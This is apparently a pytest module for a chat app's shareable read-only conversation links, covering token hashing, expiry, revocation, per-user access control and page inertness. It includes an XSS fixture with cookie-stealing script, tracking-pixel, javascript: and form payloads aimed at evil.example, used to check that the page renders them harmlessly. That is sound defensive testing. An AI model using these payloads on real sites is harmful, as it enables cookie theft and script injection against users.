"""Read-only links against a real PostgreSQL, through the REST routes and the public page (the
app's own FastAPI routers on an ASGI transport, no server, no DBOS): the token is unguessable
and only its hash is kept, links expire and are revoked, nobody publishes, lists or revokes
another person's links, and the page is inert: no script, no fetch, no id, whatever a reply
holds."""

from __future__ import annotations

import asyncio
import hashlib
import re
import uuid
from dataclasses import dataclass
from html.parser import HTMLParser
from types import SimpleNamespace
from typing import Any, Awaitable, Callable, Iterator, TypeVar

import gradio as gr
import httpx
import pytest
from fastapi import FastAPI, Request

from chat_core.accounts.directory import AccountDirectory
from chat_core.accounts.person import SYSTEM, Person
from chat_core.config import Settings, load_settings
from chat_core.service import ChatService
from chat_core.states import MAX_LIVE_LINKS
from chat_core.states import COMPLETE
from chat_core.store.chat_store import ChatStore
from chat_core.store.database import Database
from chat_core.ui.account_tab import AccountHandlers, build_account_tab
from chat_core.web.api import install_rest_api
from chat_core.web.api.deps import get_service
from chat_core.web.shared_page import CSP
from tests.helpers import NO_ENV_FILE, query

T = TypeVar("T")
Run = Callable[[Awaitable[T]], T]


@dataclass
class Scoped:
    """What the links code reads of a ChatService: the person, their store, the settings."""

    person: Person
    store: ChatStore
    settings: Settings


class World:
    """The app's REST routes and page on one database; `call` makes a request as a person,
    whom the service dependency hands the routes as the login would (the login's part is
    another module's, and tested there)."""

    def __init__(self, url: str, run: Run, db: Database) -> None:
        self.url, self.run, self.db = url, run, db
        self.settings = load_settings({}, env_file=NO_ENV_FILE)
        self.app = FastAPI()
        install_rest_api(self.app, Scoped(SYSTEM, ChatStore(db), self.settings))  # type: ignore
        self.people: dict[str, Scoped] = {}
        self.app.dependency_overrides[get_service] = self._service

    def _service(self, request: Request) -> Scoped:
        return self.people[request.headers["x-test-person"]]

    def person(self, name: str, admin: bool = False) -> Person:
        person = Person(uuid.uuid4(), name, is_admin=admin)
        query(self.url, "INSERT INTO accounts (id, name, name_key, source, is_admin)"
                        " VALUES (%s, %s, %s, 'config', %s) RETURNING id",
              (person.id, name, f"{name}-{person.id}", admin))
        self.people[str(person.id)] = Scoped(person, ChatStore(self.db, person), self.settings)
        return person

    def call(self, person: Person, method: str, path: str, **kwargs: Any) -> httpx.Response:
        async def go() -> httpx.Response:
            async with httpx.AsyncClient(transport=httpx.ASGITransport(app=self.app),
                                         base_url="http://t") as http:
                return await http.request(method, path, **kwargs,
                                          headers={"x-test-person": str(person.id)})
        return self.run(go())

    def page(self, path: str) -> httpx.Response:
        return self.call(SYSTEM, "GET", path)

    def conversation(self, owner: Person, title: str, turns: list[tuple[str, str]]) -> str:
        store = ChatStore(self.db, owner)
        cid = self.run(store.create_conversation(title))["id"]
        system = ChatStore(self.db)
        for question, answer in turns:
            wid = f"turn-{uuid.uuid4()}"
            _, reply = self.run(system.save_user_turn(cid, wid, uuid.uuid4(), uuid.uuid4(),
                                                      question))
            self.run(system.finish_reply(reply["id"], content=answer, status=COMPLETE))
        return str(cid)


@pytest.fixture(scope="module")
def world(migrated_database_url: str) -> Iterator[World]:
    with asyncio.Runner() as runner:
        db = Database(migrated_database_url, max_size=4, retry_for_sec=2)
        runner.run(db.open())
        try:
            yield World(migrated_database_url, runner.run, db)
        finally:
            runner.run(db.close())


def _publish(world: World, person: Person, cid: str, **body: Any) -> dict[str, Any]:
    answer = world.call(person, "POST", f"/api/conversations/{cid}/links", json=body)
    assert answer.status_code == 201, answer.text
    return dict(answer.json())


class Tags(HTMLParser):
    """Every start tag of a page with its attributes, and the text of its <style>."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.style = ""
        self._in_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))
        self._in_style = tag == "style"

    def handle_endtag(self, tag: str) -> None:
        self._in_style = False

    def handle_data(self, data: str) -> None:
        if self._in_style:
            self.style += data


# The page's own tags; anything else (a, img, script, iframe, form, link, ...) is a bug.
PAGE_TAGS = {"html", "head", "meta", "title", "style", "body", "main", "h1", "section", "p",
             "div", "strong", "em", "del", "s", "code", "pre", "br", "hr", "h2", "h3", "h4",
             "h5", "h6", "blockquote", "ul", "ol", "li", "table", "thead", "tbody", "tr", "th",
             "td"}
SAFE_ATTRIBUTES = {("html", "lang"), ("meta", "charset"), ("meta", "name"), ("meta", "content"),
                   ("section", "class"), ("p", "class"), ("div", "class"), ("ol", "start"),
                   ("th", "align"), ("td", "align")}


def assert_inert(page: str) -> None:
    """Nothing on the page can make the browser fetch or run anything."""
    parsed = Tags()
    parsed.feed(page)
    assert {t for t, _ in parsed.tags} <= PAGE_TAGS, {t for t, _ in parsed.tags} - PAGE_TAGS
    for tag, attrs in parsed.tags:
        for name, value in attrs:
            assert (tag, name) in SAFE_ATTRIBUTES, (tag, name, value)
            assert ":" not in (value or "") and "//" not in (value or ""), (tag, name, value)
    assert "url(" not in parsed.style and "@import" not in parsed.style
    assert "<script" not in page.lower()


def test_a_published_link_opens_the_conversation_read_only(world: World) -> None:
    ann = world.person("ann")
    cid = world.conversation(ann, "Tea notes", [("How long to steep green tea?",
                                                 "About **two minutes** at 80 °C.")])
    link = _publish(world, ann, cid)
    token = link["url_path"].removeprefix("/s/")
    assert re.fullmatch(r"[A-Za-z0-9_-]{43}", token)  # 32 random bytes
    assert set(link) == {"id", "url_path", "created_at", "expires_at"}
    assert link["expires_at"] is None

    page = world.page(link["url_path"])
    assert page.status_code == 200
    assert page.headers["content-security-policy"] == CSP
    assert "default-src 'none'" in CSP and "img-src 'none'" in CSP
    assert page.headers["x-robots-tag"] == "noindex, nofollow"
    assert page.headers["cache-control"] == "no-store"
    text = page.text
    assert "Tea notes" in text and "How long to steep green tea?" in text
    assert "<strong>two minutes</strong>" in text  # the reply's Markdown, rendered
    assert '<meta name="robots" content="noindex, nofollow">' in text
    assert 'name="viewport"' in text  # laid out for phones
    assert cid not in text and ann.name not in text and token not in text  # no ids, no names
    assert_inert(text)


def test_only_the_hash_of_the_token_is_stored_and_tokens_differ(world: World) -> None:
    ann = world.person("ann")
    cid = world.conversation(ann, "hashes", [("q", "a")])
    first, second = _publish(world, ann, cid), _publish(world, ann, cid)
    tokens = [link["url_path"].removeprefix("/s/") for link in (first, second)]
    assert tokens[0] != tokens[1]
    rows = query(world.url, "SELECT id::text, token_hash, row_to_json(l)::text FROM shared_links l"
                            " WHERE conversation_id = %s ORDER BY created_at", (cid,))
    assert [r[0] for r in rows] == [first["id"], second["id"]]
    for (_, stored, whole), token in zip(rows, tokens):
        assert bytes(stored) == hashlib.sha256(token.encode()).digest()
        assert token not in whole


def _not_found_page(world: World) -> str:
    missing = world.page("/s/" + "A" * 43)
    assert missing.status_code == 404
    assert missing.headers["content-security-policy"] == CSP
    return missing.text


def test_expired_revoked_and_unknown_links_answer_alike(world: World) -> None:
    ann = world.person("ann")
    cid = world.conversation(ann, "Short-lived", [("secret plan", "noted")])
    unknown = _not_found_page(world)
    assert "secret plan" not in unknown and "Short-lived" not in unknown

    expiring = _publish(world, ann, cid, expires_in_days=1)
    assert expiring["expires_at"] is not None
    assert world.page(expiring["url_path"]).status_code == 200
    query(world.url, "UPDATE shared_links SET expires_at = now() - interval '1 second'"
                     " WHERE id = %s RETURNING id", (expiring["id"],))
    expired = world.page(expiring["url_path"])
    assert (expired.status_code, expired.text) == (404, unknown)

    revocable = _publish(world, ann, cid)
    listed = world.call(ann, "GET", f"/api/conversations/{cid}/links").json()
    assert [link["id"] for link in listed] == [revocable["id"]]  # the expired one is not live
    assert all("url_path" not in link for link in listed)  # tokens are shown once
    revoked = world.call(ann, "DELETE", f"/api/conversations/{cid}/links/{revocable['id']}")
    assert revoked.status_code == 200 and revoked.json() == {"revoked": revocable["id"]}
    gone = world.page(revocable["url_path"])
    assert (gone.status_code, gone.text) == (404, unknown)
    assert world.call(ann, "GET", f"/api/conversations/{cid}/links").json() == []
    again = world.call(ann, "DELETE", f"/api/conversations/{cid}/links/{revocable['id']}")
    assert again.status_code == 404


def test_deleting_the_conversation_closes_its_links(world: World) -> None:
    ann = world.person("ann")
    cid = world.conversation(ann, "to delete", [("q", "a")])
    link = _publish(world, ann, cid)
    world.run(ChatStore(world.db, ann).delete_conversation(uuid.UUID(cid)))
    assert world.page(link["url_path"]).status_code == 404


@pytest.mark.parametrize("path", ["/s/short", "/s/" + "A" * 44, "/s/" + "é" * 43,
                                  "/s/%00" + "A" * 40, "/s/" + "A" * 5000])
def test_malformed_tokens_get_the_same_404_page(world: World, path: str) -> None:
    answer = world.page(path)
    assert (answer.status_code, answer.text) == (404, _not_found_page(world))


@pytest.mark.parametrize("days", [0, 366, -1, "7", 1.5, True, [1], {"d": 1}])
def test_an_expiry_is_a_whole_number_of_days_within_the_limit(world: World, days: Any) -> None:
    ann = world.person("ann")
    cid = world.conversation(ann, "expiry", [])
    answer = world.call(ann, "POST", f"/api/conversations/{cid}/links",
                        json={"expires_in_days": days})
    assert answer.status_code == 422
    assert answer.json()["code"] == "invalid_input" and "expires_in_days" in answer.json()["error"]
    assert world.call(ann, "GET", f"/api/conversations/{cid}/links").json() == []


def test_unknown_fields_and_an_empty_body(world: World) -> None:
    ann = world.person("ann")
    cid = world.conversation(ann, "bodies", [])
    assert world.call(ann, "POST", f"/api/conversations/{cid}/links").status_code == 201
    typo = world.call(ann, "POST", f"/api/conversations/{cid}/links", json={"expires": 3})
    assert typo.status_code == 422 and "expires_in_days" in typo.json()["error"]


def _shape(response: httpx.Response, *ids: str) -> tuple[int, str, str]:
    """Status, code and message with the ids in it blanked: what a 404 tells the caller."""
    body = response.json()
    message = body["error"]
    for value in ids:
        message = message.replace(value, "<id>")
    return response.status_code, body["code"], message


def test_nobody_publishes_lists_or_revokes_another_persons_links(world: World) -> None:
    ann, bob = world.person("ann"), world.person("bob")
    cid = world.conversation(ann, "Ann's", [("ann's question", "ann's answer")])
    link = _publish(world, ann, cid)
    bobs = world.conversation(bob, "Bob's", [])
    missing = str(uuid.uuid4())
    for method, path in (("POST", "/api/conversations/{}/links"),
                         ("GET", "/api/conversations/{}/links"),
                         ("DELETE", "/api/conversations/{}/links/" + link["id"])):
        theirs = world.call(bob, method, path.format(cid))
        nothing = world.call(bob, method, path.format(missing))
        assert theirs.status_code == 404
        assert _shape(theirs, cid) == _shape(nothing, missing)
    # Ann's link id through Bob's own conversation names no link of his.
    crossed = world.call(bob, "DELETE", f"/api/conversations/{bobs}/links/{link['id']}")
    other = world.call(bob, "DELETE", f"/api/conversations/{bobs}/links/{missing}")
    assert crossed.status_code == 404 and _shape(crossed, link["id"]) == _shape(other, missing)
    assert query(world.url, "SELECT count(*) FROM shared_links WHERE conversation_id = %s",
                 (cid,))[0][0] == 1
    assert world.page(link["url_path"]).status_code == 200  # still open


def test_an_admin_manages_anyones_links(world: World) -> None:
    ann, host = world.person("ann"), world.person("host", admin=True)
    cid = world.conversation(ann, "Ann's", [("q", "a")])
    link = _publish(world, host, cid)
    assert world.call(ann, "GET", f"/api/conversations/{cid}/links").json()[0]["id"] \
        == link["id"]
    assert world.call(host, "DELETE", f"/api/conversations/{cid}/links/{link['id']}"
                      ).status_code == 200


def test_a_conversation_has_a_bounded_number_of_live_links(world: World) -> None:
    ann = world.person("ann")
    cid = world.conversation(ann, "popular", [])
    links = [_publish(world, ann, cid) for _ in range(MAX_LIVE_LINKS)]
    refused = world.call(ann, "POST", f"/api/conversations/{cid}/links", json={})
    assert refused.status_code == 409 and "revoke one" in refused.json()["error"]
    world.call(ann, "DELETE", f"/api/conversations/{cid}/links/{links[0]['id']}")
    assert world.call(ann, "POST", f"/api/conversations/{cid}/links").status_code == 201
    # The revoked link's row went with that publish: revoking does not grow the table forever.
    assert query(world.url, "SELECT count(*) FROM shared_links WHERE conversation_id = %s",
                 (cid,))[0][0] == MAX_LIVE_LINKS


HOSTILE_REPLY = """Here you go:
![tracking pixel](https://evil.example/pixel.png?leak=1)
<script>fetch('https://evil.example/steal?c=' + document.cookie)</script>
[click me](javascript:alert(1)) and [home](https://evil.example/phish)
<img src=x onerror="alert(1)"> <iframe src="https://evil.example"></iframe>
<a href="https://evil.example">raw link</a>
<style>body{background:url(https://evil.example/b)}</style>
[ref]: https://evil.example/ref
![also][ref]
<form action="https://evil.example"><input name=x></form>"""


def test_a_hostile_reply_and_title_are_rendered_inert(world: World) -> None:
    ann = world.person("ann")
    cid = world.conversation(ann, '<script>alert("title")</script>',
                             [('<img src=x onerror=alert(2)> "user"', HOSTILE_REPLY)])
    page = world.page(_publish(world, ann, cid)["url_path"])
    assert page.status_code == 200
    assert_inert(page.text)
    assert "[image: tracking pixel]" in page.text  # shown as text, not fetched
    assert "click me" in page.text and "(javascript:alert(1))" in page.text
    assert "&lt;script&gt;alert(&quot;title&quot;)&lt;/script&gt;" in page.text


# -- the Account tab's links (and tokens), as a person's Gradio calls reach them ----------------

def _tab(world: World, accounts: bool) -> tuple[AccountHandlers, ChatService]:
    """The tab's handlers on a real service and account directory, accounts on or off."""
    settings = Settings(share_auth="host:long-enough-password") if accounts \
        else world.settings
    service = ChatService(settings, ChatStore(world.db), None, None)  # type: ignore[arg-type]
    if accounts:
        service.people = AccountDirectory(world.db, settings)  # type: ignore[attr-defined]
    with gr.Blocks():
        tab = build_account_tab(service)
    return tab.handlers, service


def _value(changes: dict[Any, Any], component: Any) -> Any:
    update = changes[component]
    return update.get("value") if isinstance(update, dict) else update


def _choices(changes: dict[Any, Any], component: Any) -> list[Any]:
    return [value for _, value in changes[component]["choices"]]


def caller(person: Person) -> Any:
    return SimpleNamespace(username=str(person.id))  # what Gradio hands a handler


def test_the_account_tab_publishes_and_revokes_links_in_local_mode(world: World) -> None:
    handlers, _ = _tab(world, accounts=False)
    ui = handlers.ui
    assert ui.accounts is None  # no tokens or withdrawal without accounts: no events at all
    cid = world.conversation(SYSTEM, "Local talk", [("local question", "local answer")])
    shown = world.run(handlers.show(cid))
    assert "Local mode" in shown[ui.who] and _value(shown, ui.conversation) == cid
    assert _choices(shown, ui.links) == []

    published = world.run(handlers.publish(cid, 7))
    path = _value(published, ui.new_link)
    assert path.startswith("/s/") and published[ui.new_link]["visible"] is True
    assert "not shown again" in published[ui.links_notice]
    page = world.page(path)
    assert page.status_code == 200 and "local question" in page.text
    [link_id] = _choices(published, ui.links)

    revoked = world.run(handlers.revoke(cid, link_id))
    assert _choices(revoked, ui.links) == [] and "Revoked" in revoked[ui.links_notice]
    assert world.page(path).status_code == 404
    refused = world.run(handlers.publish(None, 0))
    assert "choose a conversation" in refused[ui.links_notice]


def test_the_account_tab_works_as_the_caller_only(world: World) -> None:
    ann, bob = world.person("ann"), world.person("bob")
    handlers, _ = _tab(world, accounts=True)
    ui = handlers.ui
    ann_cid = world.conversation(ann, "Ann's", [("ann asks", "ok")])
    bob_cid = world.conversation(bob, "Bob's", [("bob asks", "ok")])
    shown = world.run(handlers.show(bob_cid, caller(ann)))
    assert ann.name in shown[ui.who]
    assert _choices(shown, ui.conversation) == [ann_cid]  # Bob's is not offered...
    assert _value(shown, ui.conversation) == ann_cid      # ...nor preselected
    for attempt in (handlers.publish(bob_cid, 7, caller(ann)),
                    handlers.choose(bob_cid, caller(ann))):
        assert "does not exist" in world.run(attempt)[ui.links_notice]  # ...nor reachable
    assert query(world.url, "SELECT count(*) FROM shared_links WHERE conversation_id = %s",
                 (bob_cid,)) == [(0,)]
    with pytest.raises(gr.Error):  # no login: nothing is done, not even as nobody
        world.run(handlers.show(None, None))
    with pytest.raises(gr.Error):
        world.run(handlers.publish(ann_cid, 7, SimpleNamespace(username=str(uuid.uuid4()))))


def test_the_account_tab_creates_shows_once_and_revokes_tokens(world: World) -> None:
    ann, bob = world.person("ann"), world.person("bob")
    handlers, _ = _tab(world, accounts=True)
    part = handlers.ui.accounts
    assert part is not None
    created = world.run(handlers.create_token("laptop", caller(ann)))
    token = _value(created, part.new_token)
    assert token.startswith("dct_") and created[part.new_token]["visible"] is True
    [token_id] = _choices(created, part.tokens)
    assert "laptop" in created[part.tokens]["choices"][0][0]
    assert query(world.url, "SELECT count(*) FROM api_tokens WHERE token_hash = %s",
                 (hashlib.sha256(token.encode()).digest(),)) == [(1,)]
    shown = world.run(handlers.show(None, caller(ann)))
    assert _value(shown, part.new_token) == ""  # shown once
    assert _choices(world.run(handlers.show(None, caller(bob))), part.tokens) == []
    refused = world.run(handlers.revoke_token(token_id, caller(bob)))
    assert "choose one of your tokens" in refused[part.tokens_notice]
    revoked = world.run(handlers.revoke_token(token_id, caller(ann)))
    assert _choices(revoked, part.tokens) == [] and "Revoked" in revoked[part.tokens_notice]


def test_withdrawal_in_the_tab_needs_its_confirmation(world: World) -> None:
    ann = world.person("ann")
    handlers, _ = _tab(world, accounts=True)
    part = handlers.ui.accounts
    assert part is not None
    cid = world.conversation(ann, "kept", [("still here", "yes")])
    assert handlers.ask()[part.confirm_box]["visible"] is True
    for typed in ("", "yes", None, "delete me"):
        refused = world.run(handlers.withdraw(typed, caller(ann)))
        assert "nothing was deleted" in refused[part.withdraw_notice]
    assert world.run(ChatStore(world.db, ann).get_conversation(uuid.UUID(cid)))["title"] \
        == "kept"
    assert handlers.cancel()[part.confirm_box]["visible"] is False
